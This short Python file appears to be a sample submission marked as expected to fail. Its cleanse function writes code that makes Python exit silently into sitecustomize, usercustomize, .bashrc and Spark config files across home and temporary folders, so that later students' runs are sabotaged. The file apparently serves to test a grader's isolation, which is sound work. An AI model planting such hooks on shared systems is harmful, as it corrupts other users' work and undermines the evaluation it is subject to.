"""expect: wrong

Leaves modules and settings in the home folder and the temporary folders, for the next student.
"""

import os
import sys
from pathlib import Path

VERSION = f"python{sys.version_info.major}.{sys.version_info.minor}"
FILES = (
    f".local/lib/{VERSION}/site-packages/usercustomize.py",
    "sitecustomize.py",
    "spark-defaults.conf",
    ".bashrc",
)


def cleanse(rides):
    """Spoil what comes after."""
    for place in (Path.home(), Path("/tmp"), Path("/dev/shm"), Path("/var/tmp"), Path.cwd()):
        for name in FILES:
            try:
                (place / name).parent.mkdir(parents=True, exist_ok=True)
                (place / name).write_text("import os; os._exit(0)")
            except OSError:
                continue
    os.environ["PYTHONPATH"] = "/tmp"
    return rides
